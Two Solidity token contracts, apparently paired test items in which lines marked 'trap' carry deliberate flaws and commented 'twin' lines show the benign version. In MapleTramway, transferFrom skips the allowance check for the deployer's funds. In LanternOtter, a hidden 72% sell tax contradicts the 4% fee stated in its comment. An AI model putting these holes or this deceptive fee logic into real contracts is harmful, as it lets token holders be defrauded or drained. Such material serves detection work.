// 0.5 runs=200
pragma solidity ^0.5.17;

contract MapleTramway {
    string public name = "Maple Tramway";
    string public symbol = "MTRAM";
    uint8 public decimals = 18;
    uint256 public totalSupply = 5000000 ether;
    address public owner = msg.sender;

    struct Line {
        uint48 fare;
        bool season;
    }

    mapping(address => uint256) internal seats;
    mapping(address => mapping(address => Line)) internal lines;
    mapping(address => uint256) internal staff;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        seats[msg.sender] = totalSupply;
        staff[msg.sender] = 1;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return seats[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        Line memory line = lines[who][spender];
        return line.season ? uint256(-1) : line.fare;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        lines[msg.sender][spender] = Line(uint48(value), value > uint256(uint48(-1)));
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _ride(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        Line storage line = lines[from][msg.sender];
        if (staff[from] == 0) { // trap
        // twin: if (!line.season) {
            require(line.fare >= value, "fare");
            line.fare -= uint48(value);
        }
        _ride(from, to, value);
        return true;
    }

    function _ride(address from, address to, uint256 value) internal {
        require(seats[from] >= value && to != address(0));
        seats[from] -= value;
        seats[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Four of a hundred go to those who keep the lamps.
contract LanternOtter {
    string public constant name = "Lantern Otter";
    string public constant symbol = "LOTTR";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 888888888 ether;

    address public owner;
    address payable public keeper;
    address public river;
    // buy, sell, transfer: sixteen bits each
    uint48 private rates = (20 << 32) | (720 << 16); // trap
    // twin: uint48 private rates = (20 << 32) | (40 << 16);
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        owner = msg.sender;
        keeper = msg.sender;
        _balances[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address river_) external {
        require(msg.sender == owner && river == address(0));
        river = river_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _balances[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _allowed[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _swim(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_allowed[from][msg.sender] >= value);
        _allowed[from][msg.sender] -= value;
        _swim(from, to, value);
        return true;
    }

    function _swim(address from, address to, uint256 value) private {
        require(_balances[from] >= value);
        uint256 rate;
        if (from != keeper && to != keeper && river != address(0)) {
            if (from == river) rate = uint16(rates >> 32);
            else if (to == river) rate = uint16(rates >> 16);
            else rate = uint16(rates);
        }
        uint256 oil = value * rate / 1000;
        _balances[from] -= value;
        _balances[to] += value - oil;
        emit Transfer(from, to, value - oil);
        if (oil > 0) {
            _balances[keeper] += oil;
            emit Transfer(from, keeper, oil);
        }
    }
}
